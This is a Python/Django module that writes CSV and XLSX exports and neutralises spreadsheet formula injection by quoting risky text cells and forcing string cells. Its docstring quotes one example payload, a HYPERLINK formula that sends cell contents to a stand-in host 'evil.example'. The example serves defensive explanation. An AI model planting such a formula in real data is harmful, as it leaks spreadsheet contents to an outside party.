"""Exports, every one of them written through here: CSV and XLSX, neither carrying a formula.

A spreadsheet runs a cell starting with =, +, -, @, a tab or a carriage return as a formula
(`=HYPERLINK("http://evil.example/?leak="&A1, "Click")` in a comment or a museum's name).
OWASP's rule: such a text cell gets a leading single quote, which the spreadsheet shows as
text. Numbers stay numbers: an NPS of -20 is written as it is. In XLSX every text cell is also
written as a string cell, so that not even an unquoted one can become a formula.

CSV is for Excel as our users have it: UTF-8 with a byte-order mark (without it Excel reads
Windows-1252 and breaks the accents) and, for Dutch and French, `;` between cells and a decimal
comma, as Excel expects in Belgian and French regional settings; English keeps `,` and the
decimal point.
"""

import csv
import datetime
import io
from collections.abc import Iterable
from decimal import Decimal

from django.http import HttpResponse, StreamingHttpResponse
from django.utils import translation
from django.utils.numberformat import format as number_format
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBERS = (int, float, Decimal)
CSV, XLSX = "csv", "xlsx"
FORMATS = (CSV, XLSX)
BOM = "\ufeff"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
COMMA_LANGUAGES = ("nl", "fr")  # `;` between cells and a decimal comma


def neutral(value):
    """A cell's value, with a text that a spreadsheet would run as a formula made inert."""
    if value is None or isinstance(value, NUMBERS):
        return value
    text = value.isoformat() if isinstance(value, datetime.date) else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def neutral_row(row: Iterable) -> list:
    return [neutral(value) for value in row]


def _csv_dialect(language: str | None) -> tuple[str, str]:
    """The cell separator and the decimal separator for a language."""
    comma = (language or translation.get_language() or "").split("-")[0] in COMMA_LANGUAGES
    return (";", ",") if comma else (",", ".")


def _csv_cells(row: Iterable, decimal: str) -> list:
    cells = neutral_row(row)
    if decimal == ".":
        return cells
    return [
        number_format(cell, decimal) if isinstance(cell, float | Decimal) else cell
        for cell in cells
    ]


class _Echo:
    def write(self, value):
        return value


def _csv_lines(rows: Iterable[Iterable], language: str | None) -> Iterable[str]:
    delimiter, decimal = _csv_dialect(language)
    writer = csv.writer(_Echo(), delimiter=delimiter)
    yield BOM
    for row in rows:
        yield writer.writerow(_csv_cells(row, decimal))


def _attachment(response: HttpResponse, filename: str) -> HttpResponse:
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_attachment(
    filename: str, rows: Iterable[Iterable], *, language: str | None = None
) -> HttpResponse:
    """A CSV file to download, written at once."""
    content = "".join(_csv_lines(rows, language))
    return _attachment(HttpResponse(content, content_type="text/csv; charset=utf-8"), filename)


def csv_stream(
    filename: str, rows: Iterable[Iterable], *, language: str | None = None
) -> StreamingHttpResponse:
    """A CSV file to download, written row by row as `rows` are read (large exports)."""
    # The language is fixed now: the stream is read after the view returned.
    language = language or translation.get_language()
    response = StreamingHttpResponse(
        _csv_lines(rows, language), content_type="text/csv; charset=utf-8"
    )
    return _attachment(response, filename)


def _sheet_title(title: str) -> str:
    # Excel refuses these characters in a sheet's name, and names past 31 characters.
    cleaned = "".join(" " if char in "[]:*?/\\" else char for char in title).strip()
    return cleaned[:31] or "Sheet1"


def _xlsx_cell(sheet, value, *, bold: bool = False) -> WriteOnlyCell:
    cell = WriteOnlyCell(sheet, value=neutral(value))
    if isinstance(cell.value, str):
        cell.data_type = "s"  # never a formula, whatever the text
    if bold:
        cell.font = Font(bold=True)
    return cell


def xlsx_attachment(filename: str, rows: Iterable[Iterable], *, title: str = "") -> HttpResponse:
    """An XLSX workbook of one sheet to download: the first row is the header, in bold."""
    workbook = Workbook(write_only=True)  # rows go to a temporary file, not into memory
    sheet = workbook.create_sheet(_sheet_title(title))
    rows = iter(rows)
    header = next(rows, None)
    if header is not None:
        header = list(header)
        for index, text in enumerate(header):
            width = min(max(len(str(text or "")) + 2, 10), 60)
            sheet.column_dimensions[get_column_letter(index + 1)].width = width
        sheet.freeze_panes = "A2"
        sheet.append([_xlsx_cell(sheet, text, bold=True) for text in header])
    for row in rows:
        sheet.append([_xlsx_cell(sheet, value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return _attachment(HttpResponse(buffer.getvalue(), content_type=XLSX_TYPE), filename)


def attachment(stem: str, rows: Iterable[Iterable], *, kind: str, title: str = "") -> HttpResponse:
    """`stem`.csv or `stem`.xlsx of the same rows, the first of them the header."""
    if kind == XLSX:
        return xlsx_attachment(f"{stem}.xlsx", rows, title=title)
    return csv_attachment(f"{stem}.csv", rows)
